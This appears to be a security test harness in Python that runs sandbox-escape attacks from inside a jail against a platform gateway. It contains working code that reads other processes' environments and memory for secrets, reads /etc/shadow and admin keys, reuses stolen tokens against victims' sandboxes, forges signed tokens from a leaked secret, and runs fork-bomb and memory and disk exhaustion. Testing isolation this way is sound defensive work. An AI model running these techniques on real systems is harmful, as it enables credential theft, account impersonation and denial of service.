"""Jail escapes, tried from inside a jail: what a hostile competitor or sandbox program does.

Run as ``python3 jailbreak.py`` with the test's *orders* (a JSON object) on stdin. Each
attack named in ``orders["attacks"]`` runs in turn and prints one JSON line as soon as it
ends: ``{"attack": name, "succeeded": bool, "detail": str, ...}``, so that what was found
before a later attack got the whole jail killed (an out-of-memory kill, say) still reaches
the test. A crash of an attack is reported as ``"error"``, never as a failure of the attack.

Standard library only: the same file runs under the gateway's Python (in a competitor's
jail) and under the system ``python3`` of a sandbox.

It harms nothing the test did not designate: signals go only to processes whose command
line carries one of the test's markers, files are created only at the paths the test
names, and the fork and memory attacks stay under the test's caps and clean up after
themselves.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
import http.client
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote, unquote, urlsplit

Finding = dict[str, Any]
Orders = dict[str, Any]

TOKEN = re.compile(rb"jpt1\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+")
SANDBOX_ID = re.compile(rb"sb_[A-Za-z0-9_-]{6,}")
CHUNK = 16 * 1024 * 1024
PAGE = 4096
MAX_MEMORY_SCAN = 64 * 1024 * 1024  # per foreign process
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000


# Helpers ---------------------------------------------------------------------------------


def _pids() -> list[int]:
    """Every process this jail's /proc shows."""
    return sorted(int(name) for name in os.listdir("/proc") if name.isdigit())


def _read(path: str, limit: int = 1024 * 1024) -> bytes | None:
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return None


def _cmdline(pid: int) -> bytes:
    return _read(f"/proc/{pid}/cmdline") or b""


def _own_processes() -> set[int]:
    """This program and its ancestors: what it did not need to break out to reach."""
    own, pid = set(), os.getpid()
    while pid > 1 and pid not in own:
        own.add(pid)
        status = _read(f"/proc/{pid}/status") or b""
        match = re.search(rb"^PPid:\s*(\d+)", status, re.MULTILINE)
        pid = int(match.group(1)) if match else 0
    return own


def _marked(markers: list[str]) -> Iterator[int]:
    """Processes (other than this one and its ancestors) whose argv carries a marker."""
    own = _own_processes()
    for pid in _pids():
        cmdline = _cmdline(pid)
        if pid not in own and any(marker.encode() in cmdline for marker in markers):
            yield pid


def _secrets_in(data: bytes, secrets: dict[str, str]) -> list[str]:
    return [name for name, value in secrets.items() if value.encode() in data]


def _foreign_tokens(data: bytes, orders: Orders) -> set[str]:
    own = orders.get("own_token") or ""
    return {token.decode() for token in TOKEN.findall(data) if token.decode() != own}


def _finding(succeeded: bool, detail: str, **extra: Any) -> Finding:
    return {"succeeded": bool(succeeded), "detail": detail, **extra}


def _run(argv: list[str], timeout: float = 60) -> tuple[int | None, str]:
    try:
        done = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, check=False)
    except (OSError, subprocess.TimeoutExpired) as exc:
        return None, repr(exc)
    return done.returncode, (done.stdout + done.stderr).strip()


# Secrets of other processes -----------------------------------------------------------


def steal_environ(orders: Orders) -> Finding:
    """Read every ``/proc/<pid>/environ`` this jail shows (its own included: a secret in
    its own environment leaked just the same) and look for the gateway's secrets and for
    other holders' platform tokens."""
    secrets, leaks, tokens, readable = orders["secrets"], {}, set(), 0
    for pid in _pids():
        data = _read(f"/proc/{pid}/environ")
        if data is None:
            continue
        readable += 1
        for name in _secrets_in(data, secrets):
            leaks.setdefault(name, pid)
        tokens |= _foreign_tokens(data, orders)
    detail = f"{readable} environ files readable; secrets found: {sorted(leaks) or 'none'}"
    if tokens:
        detail += f"; {len(tokens)} foreign platform token(s)"
    return _finding(bool(leaks or tokens), detail, secrets=leaks, tokens=sorted(tokens))


def steal_cmdline(orders: Orders) -> Finding:
    """Read every ``/proc/<pid>/cmdline`` and look for secrets and platform tokens on any
    argv (bubblewrap's ``--setenv NAME VALUE`` puts them there), and for sandbox ids."""
    secrets, leaks, tokens, sandboxes = orders["secrets"], {}, set(), set()
    for pid in _pids():
        data = _cmdline(pid)
        for name in _secrets_in(data, secrets):
            leaks.setdefault(name, pid)
        tokens |= _foreign_tokens(data, orders)
        sandboxes |= {match.decode() for match in SANDBOX_ID.findall(data)}
    detail = f"secrets on argv: {sorted(leaks) or 'none'}; foreign tokens on argv: {len(tokens)}"
    return _finding(
        bool(leaks or tokens),
        detail,
        secrets=leaks,
        tokens=sorted(tokens),
        sandboxes=sorted(sandboxes),
    )


def read_foreign_memory(orders: Orders) -> Finding:
    """Open ``/proc/<pid>/mem`` of processes it did not start (those whose argv carries a
    marker of ``orders["memory_markers"]``: the gateway, another competitor) and read their
    writable memory, looking for secrets (another client's message, a live token)."""
    secrets, opened, found, tokens, total = orders["secrets"], [], {}, set(), 0
    for pid in _marked(orders["memory_markers"]):
        maps = (_read(f"/proc/{pid}/maps") or b"").decode(errors="replace").splitlines()
        try:
            mem = open(f"/proc/{pid}/mem", "rb")
        except OSError:
            continue
        scanned = 0
        with mem:
            for line in maps:
                fields = line.split()
                if len(fields) < 2 or not fields[1].startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                size = min(end - start, MAX_MEMORY_SCAN - scanned)
                if size <= 0:
                    break
                try:
                    mem.seek(start)
                    data = mem.read(size)
                except (OSError, OverflowError, ValueError):
                    continue
                scanned += len(data)
                for name in _secrets_in(data, secrets):
                    found.setdefault(name, pid)
                tokens |= _foreign_tokens(data, orders)
        if scanned:
            opened.append(pid)
            total += scanned
    detail = (
        f"read {total} bytes of {len(opened)} foreign processes; secrets: {sorted(found)}; "
        f"{len(tokens)} platform token(s)"
    )
    return _finding(bool(opened), detail, pids=opened, secrets=found, tokens=sorted(tokens))


# Host files ------------------------------------------------------------------------------


def read_host_files(orders: Orders) -> Finding:
    """Read host files by their own paths (``/etc/shadow``, the data directory's
    ``admin.key``, the store)."""
    readable = [path for path in orders["host_files"] if _read(path, 64) is not None]
    return _finding(bool(readable), f"readable: {readable or 'none'}", paths=readable)


def read_host_files_via_proc_root(orders: Orders) -> Finding:
    """Read the same files through ``/proc/<pid>/root/...`` of every process it can see:
    a process in the host's mount namespace hands out the host's root."""
    readable: dict[str, int] = {}
    for pid in _pids():
        for path in orders["host_files"]:
            if path not in readable and _read(f"/proc/{pid}/root{path}", 64) is not None:
                readable[path] = pid
    return _finding(
        bool(readable), f"readable through /proc/<pid>/root: {readable}", paths=readable
    )


def open_store_read_write(orders: Orders) -> Finding:
    """Open the gateway's SQLite store read-write, directly and through ``/proc/<pid>/root``
    (with it: mint keys, rewrite the leaderboard)."""
    store = orders["store"]
    candidates = [store] + [f"/proc/{pid}/root{store}" for pid in _pids()]
    for path in candidates:
        try:
            os.close(os.open(path, os.O_RDWR))
        except OSError:
            continue
        return _finding(True, f"opened read-write as {path}", path=path)
    return _finding(False, "the store could not be opened read-write")


def write_host_files(orders: Orders) -> Finding:
    """Create each of ``orders["write_paths"]`` (host paths), directly and through
    ``/proc/<pid>/root``. A file created in the jail's own private view does not count:
    the test checks the host."""
    written: dict[str, str] = {}
    for path in orders["write_paths"]:
        for candidate in [path] + [f"/proc/{pid}/root{path}" for pid in _pids()]:
            try:
                fd = os.open(candidate, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
            except OSError:
                continue
            with os.fdopen(fd, "w") as file:
                file.write("planted by a jailed program\n")
            written[path] = candidate
            break
    return _finding(bool(written), f"created (in its own view): {written}", paths=written)


# Other processes -------------------------------------------------------------------------


def signal_foreign_processes(orders: Orders) -> Finding:
    """Send SIGSTOP and SIGKILL to processes it did not start: those whose argv carries
    the test's markers (a root sleeper on the host), and their host pids blindly when
    this jail's /proc does not show them."""
    delivered: dict[str, list[int]] = {}
    for name, target in orders["signal_targets"].items():
        signum = getattr(signal, name)
        pids = set(_marked([target["marker"]]))
        if not os.path.exists(f"/proc/{target['pid']}"):
            pids.add(target["pid"])  # invisible here: it is nobody of this jail either
        for pid in sorted(pids):
            with contextlib.suppress(OSError):
                os.kill(pid, signum)
                delivered.setdefault(name, []).append(pid)
    return _finding(bool(delivered), f"signals delivered: {delivered or 'none'}", pids=delivered)


# Namespaces and network ------------------------------------------------------------------

_UNSHARE = f"""
import ctypes, ctypes.util, sys
libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
if libc.unshare({CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET}) != 0:
    sys.exit("unshare: errno " + str(ctypes.get_errno()))
print("unshared")
"""


def nested_user_namespace(orders: Orders) -> Finding:
    """Create a nested user namespace (with mount and network ones): ``unshare(2)``
    directly, then ``unshare -U -r`` (root with full capabilities inside it: the first
    step of most kernel exploits)."""
    code, output = _run([sys.executable, "-c", _UNSHARE])
    results = {"unshare(CLONE_NEWUSER)": code == 0}
    details = [f"unshare(2): {output or code}"]
    tool = "/usr/bin/unshare"
    if os.path.exists(tool):
        code, output = _run([tool, "-U", "-r", "sh", "-c", "id -u; grep CapEff /proc/self/status"])
        results["unshare -U -r"] = code == 0 and output.startswith("0")
        details.append(f"unshare -U -r: {output or code}")
    return _finding(any(results.values()), "; ".join(details), results=results)


def network_egress(orders: Orders) -> Finding:
    """Connect over TCP to each ``[host, port]`` of ``orders["connect"]`` (the gateway's
    own port on 127.0.0.1, a listener of the test on 127.0.0.2)."""
    connected = []
    for host, port in orders["connect"]:
        with contextlib.suppress(OSError):
            socket.create_connection((host, port), timeout=10).close()
            connected.append(f"{host}:{port}")
    return _finding(bool(connected), f"connected to: {connected or 'nothing'}", connected=connected)


# Resources -------------------------------------------------------------------------------


def fork_bomb(orders: Orders) -> Finding:
    """Fork children that wait, until fork fails or ``orders["fork_cap"]`` is reached;
    report how many existed at once, then end them all."""
    cap, children = orders["fork_cap"], []
    read_end, write_end = os.pipe()
    error = "cap reached"
    try:
        while len(children) < cap:
            try:
                pid = os.fork()
            except OSError as exc:
                error = f"fork refused: {exc}"
                break
            if pid == 0:  # the child waits for the pipe to close, touching nothing
                os.close(write_end)
                with contextlib.suppress(OSError):
                    os.read(read_end, 1)
                os._exit(0)
            children.append(pid)
    finally:
        os.close(write_end)
        os.close(read_end)
        for pid in children:
            with contextlib.suppress(ChildProcessError):
                os.waitpid(pid, 0)
    return _finding(
        len(children) >= cap, f"{len(children)} processes forked; {error}", count=len(children)
    )


_HOLD = """
import sys
try:
    with open("/proc/self/oom_score_adj", "w") as f:
        f.write("1000")  # if anything must die, let it be this worker
except OSError:
    pass
size = int(sys.argv[1]) * 1024 * 1024
hold = bytearray(size)
for offset in range(0, size, 4096):
    hold[offset] = 1
print("holding", flush=True)
for _ in sys.stdin:  # each line asks: do you still hold it all? (a killed worker can't say)
    print("holding" if sum(hold[::4096]) == size // 4096 else "lost", flush=True)
"""


def _still_holding(worker: subprocess.Popen[str]) -> bool:
    """Ask a worker whether it is alive and holding: a round trip, not a snapshot of its
    state, which would count a worker the kernel is killing at that moment."""
    try:
        worker.stdin.write("?\n")
        worker.stdin.flush()
        return worker.stdout.readline().strip() == "holding"
    except OSError:
        return False


def memory_hog(orders: Orders) -> Finding:
    """Hold ``orders["memory_target_mb"]`` of touched memory at once, in worker processes
    of ``orders["memory_worker_mb"]`` each (a per-process limit does not stop several):
    report how much was held at the same time, once every worker ended or held."""
    target, worker_mb = orders["memory_target_mb"], orders["memory_worker_mb"]
    workers: list[subprocess.Popen[str]] = []
    try:
        for _ in range(-(-target // worker_mb)):
            try:
                worker = subprocess.Popen(
                    [sys.executable, "-c", _HOLD, str(worker_mb)],
                    stdin=subprocess.PIPE,
                    stdout=subprocess.PIPE,
                    stderr=subprocess.DEVNULL,
                    text=True,
                )
            except OSError:
                break
            workers.append(worker)
            if worker.stdout.readline().strip() != "holding":
                break  # it died: the limit held
        alive = [worker for worker in workers if _still_holding(worker)]
        held = len(alive) * worker_mb
    finally:
        for worker in workers:
            with contextlib.suppress(OSError):
                worker.stdin.close()
            with contextlib.suppress(OSError):
                worker.kill()
            worker.wait()
    detail = (
        f"held {held} MB at once in {len(alive)} of {len(workers)} workers (target {target} MB)"
    )
    return _finding(held >= target, detail, held_mb=held)


def _fill(directory: str, target_mb: int) -> tuple[int, str]:
    """Write ``CHUNK``-sized files into ``directory`` until ``target_mb`` or an error;
    the bytes written, and why it stopped. The files are removed afterwards."""
    written, files, reason = 0, [], "target reached"
    block = b"\xa5" * CHUNK
    try:
        while written < target_mb * 1024 * 1024:
            path = os.path.join(directory, f"fill-{len(files)}.bin")
            files.append(path)
            try:
                with open(path, "wb") as file:
                    file.write(block)
                    file.flush()
                    os.fsync(file.fileno())
            except OSError as exc:
                reason = f"stopped: {exc}"
                break
            written += CHUNK
    finally:
        for path in files:
            with contextlib.suppress(OSError):
                os.unlink(path)
    return written, reason


def tmpfs_fill(orders: Orders) -> Finding:
    """Write ``orders["tmpfs_target_mb"]`` into ``/tmp`` (a tmpfs: memory, not disk)."""
    written, reason = _fill("/tmp", orders["tmpfs_target_mb"])
    mb = written // (1024 * 1024)
    return _finding(
        mb >= orders["tmpfs_target_mb"], f"wrote {mb} MB to /tmp; {reason}", written_mb=mb
    )


def disk_fill(orders: Orders) -> Finding:
    """Write ``orders["disk_target_mb"]`` into ``orders["disk_dir"]`` (the workspace)."""
    written, reason = _fill(orders["disk_dir"], orders["disk_target_mb"])
    mb = written // (1024 * 1024)
    return _finding(
        mb >= orders["disk_target_mb"], f"wrote {mb} MB to the workspace; {reason}", written_mb=mb
    )


# Stolen tokens ---------------------------------------------------------------------------


class _UnixConnection(http.client.HTTPConnection):
    def __init__(self, path: str, timeout: float) -> None:
        super().__init__("platform", timeout=timeout)
        self._path = path

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(self.timeout)
        self.sock.connect(self._path)


def _platform_call(
    orders: Orders, token: str, method: str, path: str, body: Any = None
) -> tuple[int, bytes]:
    """One call to the platform at ``orders["platform_url"]`` (``http+unix://`` or http)."""
    url = urlsplit(orders["platform_url"])
    if url.scheme == "http+unix":
        connection = _UnixConnection(unquote(url.netloc), 60)
    else:
        connection = http.client.HTTPConnection(url.netloc, timeout=60)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    try:
        connection.request(
            method, url.path.rstrip("/") + path, json.dumps(body) if body else None, headers
        )
        response = connection.getresponse()
        return response.status, response.read()
    except OSError as exc:
        return 0, repr(exc).encode()
    finally:
        connection.close()


def use_stolen_tokens(orders: Orders) -> Finding:
    """Look for other holders' tokens (argv, environ, memory) and spend them: in every
    sandbox id seen on an argv, read the victim's file (``orders["victim_file"]``) and
    plant one for the victim to deliver; and charge an inference call to its meter."""
    cmdline, environ = steal_cmdline(orders), steal_environ(orders)
    memory = read_foreign_memory(orders) if orders.get("memory_markers") else {"tokens": []}
    tokens = sorted(set(cmdline["tokens"]) | set(environ["tokens"]) | set(memory["tokens"]))
    stolen: list[str] = []
    for token in tokens:
        for sandbox_id in cmdline["sandboxes"]:
            one = f"/sandbox/api/sandboxes/{sandbox_id}"
            file = quote(orders["victim_file"])
            status, body = _platform_call(orders, token, "GET", f"{one}/files/read?path={file}")
            if status == 200:
                stolen.append(f"read {sandbox_id}:{orders['victim_file']}: {body[:200]!r}")
            plant = {"path": "artifacts/planted.txt", "content": "planted by an attacker"}
            status, _ = _platform_call(orders, token, "POST", f"{one}/files/write", plant)
            if status == 200:
                stolen.append(f"planted artifacts/planted.txt in {sandbox_id}")
        chat = {"model": orders["inference_model"], "messages": [{"role": "user", "content": "hi"}]}
        status, _ = _platform_call(orders, token, "POST", "/v1/chat/completions", chat)
        if status == 200:
            stolen.append("charged an inference call to the token's holder")
    detail = f"{len(tokens)} foreign token(s) found; {stolen or 'none used'}"
    return _finding(bool(stolen), detail, used=stolen, tokens=len(tokens))


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def forge_token(orders: Orders) -> Finding:
    """Find the gateway's signing secret (``JANUS_PLATFORM_SECRET=`` in any environ it can
    read), mint a ten-year platform token as another competitor with it (the token format
    is public: ``janus/platform/tokens.py``), and create a sandbox with that token."""
    secrets_seen = set()
    for pid in _pids():
        for entry in (_read(f"/proc/{pid}/environ") or b"").split(b"\0"):
            if entry.startswith(b"JANUS_PLATFORM_SECRET=") and len(entry) > 22:
                secrets_seen.add(entry.split(b"=", 1)[1])
    for secret in secrets_seen:
        key = hmac.new(secret, b"platform-tokens", hashlib.sha256).digest()
        expires = time.time() + 10 * 365 * 24 * 3600
        claims = _b64(json.dumps(["bystander", "forged", expires]).encode())
        signature = _b64(hmac.new(key, claims.encode(), hashlib.sha256).digest()[:24])
        token = f"jpt1.{claims}.{signature}"
        status, body = _platform_call(orders, token, "POST", "/sandbox/api/sandboxes", {})
        if status == 201:
            sandbox_id = json.loads(body)["id"]
            _platform_call(orders, token, "POST", f"/sandbox/api/sandboxes/{sandbox_id}/terminate")
            return _finding(True, "a forged ten-year token as 'bystander' created a sandbox")
    return _finding(False, f"{len(secrets_seen)} signing secret(s) found; no forged token worked")


ATTACKS: dict[str, Callable[[Orders], Finding]] = {
    function.__name__: function
    for function in (
        steal_environ,
        steal_cmdline,
        read_foreign_memory,
        read_host_files,
        read_host_files_via_proc_root,
        open_store_read_write,
        write_host_files,
        signal_foreign_processes,
        nested_user_namespace,
        network_egress,
        use_stolen_tokens,
        forge_token,
        fork_bomb,
        memory_hog,
        tmpfs_fill,
        disk_fill,
    )
}


def run(orders: Orders, out=sys.stdout) -> None:
    """Run the ordered attacks in order, one JSON line per attack."""
    for name in orders["attacks"]:
        started = time.monotonic()
        try:
            finding = ATTACKS[name](orders)
        except Exception as exc:  # a bug of the attack, not a defence: say so
            finding = {"succeeded": False, "error": f"{type(exc).__name__}: {exc}"}
        finding["seconds"] = round(time.monotonic() - started, 1)
        out.write(json.dumps({"attack": name, **finding}) + "\n")
        out.flush()


if __name__ == "__main__":
    run(json.loads(sys.stdin.read()))
